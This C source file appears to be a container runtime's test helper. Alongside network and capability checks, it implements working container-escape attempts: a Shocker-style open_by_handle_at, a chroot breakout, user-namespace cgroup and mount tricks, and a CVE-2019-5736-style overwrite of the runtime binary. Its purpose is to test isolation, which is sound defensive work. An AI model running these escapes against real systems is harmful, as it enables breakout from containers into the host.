/* probe: the test suites' static helper, built by tests/lib.sh (build_probe) and bind-mounted
 * into containers, so that no test depends on which tools the default rootfs has (busybox or the
 * host's binaries) or on one tool's wording.
 *
 *   probe ping ADDR [MS]            one ICMP echo; "ping: reply from ADDR" and exit 0, else 1
 *   probe serve PORT TEXT [COUNT]   TCP server on 0.0.0.0:PORT: writes TEXT to COUNT (default:
 *                                   every) connection and closes it
 *   probe connect ADDR PORT [MS]    TCP client: prints what the server sends until EOF
 *   probe sethostname NAME          sethostname(2)
 *   probe VERB ...                  the escape attempts of tests/escape.sh (see main)
 *   probe sleep SECONDS
 *   probe surface                   io_uring_setup, userfaultfd, perf_event_open, keyctl,
 *                                   add_key, request_key with harmless bad arguments: one
 *                                   "NAME: ERRNO" line each (EPERM: refused by seccomp)
 *   probe keyring_add TEXT FILE CMD...   (host side) a new session keyring holding a user key
 *                                   with TEXT, its serial written to FILE, then exec CMD
 *   probe keyring_read SERIAL       read that key (keyctl KEYCTL_READ)
 *   probe keyring_user              reach the user keyring of our uid (KEY_SPEC_USER_KEYRING)
 *   probe with_inheritable CMD...   (host side) CAP_NET_RAW in the inheritable set, then exec CMD
 *   probe capinh                    this process's inheritable set (CapInh of /proc/self/status)
 *
 * Each verb prints one line: "<verb>: OK ..." when the attempt worked, "<verb>: <ERRNO-NAME>"
 * when it failed, and exits 0 only when it worked (ping, serve and connect print their data). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <unistd.h>
#include <dirent.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <linux/reboot.h>
#include <time.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <sys/socket.h>

static int failed(const char *verb) {
    printf("%s: %s\n", verb, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    return 1;
}

static int write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return -1;
    ssize_t n = write(fd, text, strlen(text));
    close(fd);
    return n == (ssize_t)strlen(text) ? 0 : -1;
}

/* A new user namespace in which this (container-root) process is uid 0 mapped to itself. */
static int enter_userns(int extra) {
    if (unshare(CLONE_NEWUSER | extra) != 0) return -1;
    if (write_file("/proc/self/setgroups", "deny") != 0) return -1;
    if (write_file("/proc/self/uid_map", "0 0 1") != 0) return -1;
    if (write_file("/proc/self/gid_map", "0 0 1") != 0) return -1;
    return 0;
}


static uint16_t checksum(const void *data, size_t len) {
    const uint16_t *p = data;
    uint32_t sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const uint8_t *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* One ICMP echo over a raw socket (root, or CAP_NET_RAW in a container). */
static int ping(const char *addr, int ms) {
    struct sockaddr_in to = { .sin_family = AF_INET };
    if (inet_pton(AF_INET, addr, &to.sin_addr) != 1) { errno = EINVAL; return failed("ping"); }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0) return failed("ping");
    struct icmphdr req = { .type = ICMP_ECHO };
    req.un.echo.id = htons((uint16_t)getpid());
    req.un.echo.sequence = htons(1);
    req.checksum = checksum(&req, sizeof req);
    if (sendto(fd, &req, sizeof req, 0, (struct sockaddr *)&to, sizeof to) < 0) return failed("ping");
    struct timespec start;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (;;) {
        struct timespec now;
        clock_gettime(CLOCK_MONOTONIC, &now);
        long left = ms - ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000);
        if (left <= 0) { errno = ETIMEDOUT; return failed("ping"); }
        struct pollfd p = { .fd = fd, .events = POLLIN };
        if (poll(&p, 1, (int)left) <= 0) continue;
        unsigned char buf[1500];
        struct sockaddr_in from;
        socklen_t fl = sizeof from;
        ssize_t n = recvfrom(fd, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl);
        if (n < (ssize_t)sizeof(struct iphdr)) continue;
        size_t hl = (size_t)(((struct iphdr *)buf)->ihl) * 4;
        if ((size_t)n < hl + sizeof(struct icmphdr)) continue;
        struct icmphdr *rep = (struct icmphdr *)(buf + hl);
        if (from.sin_addr.s_addr == to.sin_addr.s_addr && rep->type == ICMP_ECHOREPLY &&
            rep->un.echo.id == req.un.echo.id) {
            printf("ping: reply from %s\n", addr);
            return 0;
        }
    }
}

static int serve(int port, const char *text, int count) {
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    if (s < 0) return failed("serve");
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 16) != 0) return failed("serve");
    for (int i = 0; count <= 0 || i < count; i++) {
        int c = accept(s, 0, 0);
        if (c < 0) return failed("serve");
        dprintf(c, "%s\n", text);
        close(c);
    }
    return 0;
}

static int connect_to(const char *addr, int port, int ms) {
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
    if (inet_pton(AF_INET, addr, &a.sin_addr) != 1) { errno = EINVAL; return failed("connect"); }
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval tv = { .tv_sec = ms / 1000, .tv_usec = (ms % 1000) * 1000 };
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof a) != 0) return failed("connect");
    char buf[4096];
    ssize_t n;
    while ((n = read(s, buf, sizeof buf)) > 0) fwrite(buf, 1, (size_t)n, stdout);
    return n < 0 ? failed("connect") : 0;
}

struct handle { unsigned int bytes; int type; unsigned char data[128]; };

/* Each call with arguments the kernel rejects before doing anything (EINVAL, EFAULT, ...), so
 * that EPERM can only come from a seccomp filter. */
static int surface(void) {
    struct { const char *name; long nr; long a, b, c, d, e; } calls[] = {
        { "io_uring_setup", SYS_io_uring_setup, 0, 0, 0, 0, 0 },
        { "userfaultfd", SYS_userfaultfd, -1, 0, 0, 0, 0 },
        { "perf_event_open", SYS_perf_event_open, 0, 0, -1, -1, 0 },
        { "keyctl", SYS_keyctl, 9999, 0, 0, 0, 0 },
        { "add_key", SYS_add_key, 0, 0, 0, 0, 0 },
        { "request_key", SYS_request_key, 0, 0, 0, 0, 0 },
    };
    for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++) {
        errno = 0;
        long r = syscall(calls[i].nr, calls[i].a, calls[i].b, calls[i].c, calls[i].d, calls[i].e);
        if (r >= 0) { printf("%s: OK\n", calls[i].name); close((int)r); continue; }
        printf("%s: %s\n", calls[i].name, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    }
    return 0;
}

struct cap_header { uint32_t version; int pid; };
struct cap_data { uint32_t effective, permitted, inheritable; };

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *v = argv[1];
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(v, "ping") && argc > 2) return ping(argv[2], argc > 3 ? atoi(argv[3]) : 2000);
    if (!strcmp(v, "serve") && argc > 3) return serve(atoi(argv[2]), argv[3], argc > 4 ? atoi(argv[4]) : 0);
    if (!strcmp(v, "connect") && argc > 3) return connect_to(argv[2], atoi(argv[3]), argc > 4 ? atoi(argv[4]) : 5000);
    if (!strcmp(v, "sethostname") && argc > 2) {
        if (sethostname(argv[2], strlen(argv[2])) != 0) return failed(v);
        printf("%s: OK\n", v);
        return 0;
    }
    if (!strcmp(v, "surface")) return surface();
    if (!strcmp(v, "sleep") && argc > 2) { sleep((unsigned)atoi(argv[2])); return 0; }
    if (!strcmp(v, "keyring_add") && argc > 4) {
        long ring = syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "dr-test-session");
        if (ring < 0) return failed(v);
        long key = syscall(SYS_add_key, "user", "dr-test-secret", argv[2], strlen(argv[2]),
                           -3 /* KEY_SPEC_SESSION_KEYRING */);
        if (key < 0) return failed(v);
        FILE *f = fopen(argv[3], "w");
        if (!f) return failed(v);
        fprintf(f, "%ld\n", key);
        fclose(f);
        execvp(argv[4], argv + 4);
        return failed(v);
    }
    if (!strcmp(v, "keyring_read") && argc > 2) {
        char buf[256] = {0};
        long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, atol(argv[2]), buf, sizeof buf - 1);
        if (n < 0) return failed(v);
        printf("%s: OK, read %s\n", v, buf);
        return 0;
    }
    if (!strcmp(v, "keyring_user")) {
        long id = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* KEY_SPEC_USER_KEYRING */, 0);
        if (id < 0) return failed(v);
        printf("%s: OK, keyring %ld\n", v, id);
        return 0;
    }
    if (!strcmp(v, "with_inheritable") && argc > 2) {
        struct cap_header h = { 0x20080522, 0 };
        struct cap_data d[2];
        if (syscall(SYS_capget, &h, d) != 0) return failed(v);
        d[0].inheritable |= 1u << 13; /* CAP_NET_RAW */
        if (syscall(SYS_capset, &h, d) != 0) return failed(v);
        execvp(argv[2], argv + 2);
        return failed(v);
    }
    if (!strcmp(v, "capinh")) {
        FILE *f = fopen("/proc/self/status", "r");
        char line[256];
        while (f && fgets(line, sizeof line, f))
            if (!strncmp(line, "CapInh:", 7)) { printf("capinh: %s", line + 7 + strspn(line + 7, " \t")); return 0; }
        return failed(v);
    }
    if (!strcmp(v, "kill") && argc > 2) {            /* signal 0 a pid */
        if (kill(atoi(argv[2]), 0) != 0) return failed(v);
    } else if (!strcmp(v, "ptrace") && argc > 2) {   /* attach to a pid */
        if (ptrace(PTRACE_ATTACH, atoi(argv[2]), 0, 0) != 0) return failed(v);
    } else if (!strcmp(v, "reboot")) {
        /* A wrong second magic: EPERM without CAP_SYS_BOOT, EINVAL (harmless) with it. */
        if (syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, 0x12345678, LINUX_REBOOT_CMD_POWER_OFF, 0) != 0)
            return failed(v);
    } else if (!strcmp(v, "finit_module")) {
        int fd = open("/dev/null", O_RDONLY);
        if (syscall(SYS_finit_module, fd, "", 0) != 0) return failed(v);
    } else if (!strcmp(v, "init_module")) {
        static char image[64];
        if (syscall(SYS_init_module, image, sizeof image, "") != 0) return failed(v);
    } else if (!strcmp(v, "open_by_handle_at") && argc > 2) {
        /* Shocker: a handle for inode 2 (the root directory of an ext4 file system), opened
         * relative to a file of that file system (a bind mount from the host). */
        int mfd = open(argv[2], O_RDONLY);
        if (mfd < 0) return failed("open mount fd");
        struct handle h = { .bytes = 8, .type = 1 };
        unsigned int ino = 2, gen = 0;
        memcpy(h.data, &ino, 4); memcpy(h.data + 4, &gen, 4);
        int fd = syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY);
        if (fd < 0) return failed(v);
        DIR *d = fdopendir(fd);
        struct dirent *e;
        printf("%s: OK, host root:", v);
        while (d && (e = readdir(d))) printf(" %s", e->d_name);
        printf("\n");
    } else if (!strcmp(v, "chroot_escape") && argc > 2) {
        /* The classic: chroot into a subdirectory while holding a directory outside it, climb. */
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        mkdir("/dev/.escape", 0700);
        if (chroot("/dev/.escape") != 0) return failed("chroot");
        if (fchdir(fd) != 0) return failed("fchdir");
        for (int i = 0; i < 256; i++) if (chdir("..") != 0) break;
        if (chroot(".") != 0) return failed("chroot .");
        if (access(argv[2], F_OK) != 0) return failed(v);
        printf("%s: OK, %s is visible\n", v, argv[2]);
    } else if (!strcmp(v, "userns_cgroup") && argc > 4) {
        /* A user namespace of our own owns a new cgroup namespace whose root is our own
         * cgroup: mount the v1 hierarchy argv[2] and write argv[4] to its file argv[3]. */
        if (enter_userns(0) != 0) return failed("userns");
        if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0) return failed("unshare mnt+cgroup");
        mkdir("/dev/.cg", 0700);
        if (mount("cgroup", "/dev/.cg", "cgroup", 0, argv[2]) != 0) return failed("mount cgroup");
        char path[256];
        snprintf(path, sizeof path, "/dev/.cg/%s", argv[3]);
        if (write_file(path, argv[4]) != 0) return failed(v);
        printf("%s: OK, wrote %s=%s\n", v, argv[3], argv[4]);
    } else if (!strcmp(v, "userns_mount") && argc > 3) {
        /* A user namespace of our own: mount a block device node with a real file system. */
        if (enter_userns(CLONE_NEWNS) != 0) return failed("userns");
        if (mount(argv[2], argv[3], "ext4", MS_RDONLY, 0) != 0) return failed(v);
        printf("%s: OK\n", v);
    } else if (!strcmp(v, "userns_proc")) {
        /* user + pid namespace of our own: mount a fresh proc (would expose unmasked paths). */
        if (enter_userns(CLONE_NEWNS | CLONE_NEWPID) != 0) return failed("userns");
        pid_t p = fork();
        if (p == 0) {
            mkdir("/dev/.proc", 0700);
            if (mount("proc", "/dev/.proc", "proc", 0, 0) != 0) { failed(v); fflush(stdout); _exit(1); }
            printf("%s: OK\n", v);
            fflush(stdout);
            _exit(0);
        }
        int st = 1;
        waitpid(p, &st, 0);
        return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
    } else if (!strcmp(v, "exe_snoop") && argc > 2) {
        /* CVE-2019-5736 style: look for a process in our PID namespace whose /proc/PID/exe is
         * not a file we can see (the runtime binary of a joining exec), open it, and try to
         * open it for writing once it is no longer executing. argv[2]: seconds to watch. */
        time_t end = time(0) + atoi(argv[2]);
        char self[64]; snprintf(self, sizeof self, "%d", getpid());
        while (time(0) < end) {
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d && (e = readdir(d))) {
                if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
                char path[300], link[512];
                snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
                int fd = open(path, O_PATH);
                if (fd < 0) continue;
                ssize_t n = readlink(path, link, sizeof link - 1);
                link[n > 0 ? n : 0] = 0;
                if (n > 0 && !strncmp(link, "/memfd:", 7)) {
                    /* The runtime's exec stub, sealed: writing must fail whatever the open did. */
                    char fdpath[64];
                    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
                    int w = open(fdpath, O_WRONLY);
                    if (w >= 0 && write(w, "ESCAPED", 7) > 0) {
                        printf("%s: WRITABLE %s\n", v, link);
                        return 0;
                    }
                    if (w >= 0) close(w);
                } else if (n > 0 && strncmp(link, "/bin/", 5) && strncmp(link, "/usr/", 5) &&
                    strncmp(link, "/sbin/", 6) && strncmp(link, "/run/", 5)) {
                    printf("%s: OK, got %s\n", v, link);
                    fflush(stdout);
                    char fdpath[64];
                    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
                    for (int i = 0; i < 300; i++) {   /* up to 3 s for the binary to stop running */
                        int w = open(fdpath, O_WRONLY | O_APPEND);
                        if (w >= 0) {
                            /* Proof on the test's own copy of the binary: a marker appended. */
                            ssize_t n = write(w, "ESCAPED", 7);
                            printf("%s: WRITABLE %s (%zd bytes appended)\n", v, link, n);
                            return 0;
                        }
                        if (errno != ETXTBSY) break;
                        usleep(10000);
                    }
                    printf("%s: not writable (%s)\n", v, strerrorname_np(errno));
                    return 0;
                }
                close(fd);
            }
            if (d) closedir(d);
        }
        printf("%s: nothing seen\n", v);
        return 1;
    } else {
        fprintf(stderr, "unknown verb %s\n", v);
        return 2;
    }
    printf("%s: OK\n", v);
    return 0;
}
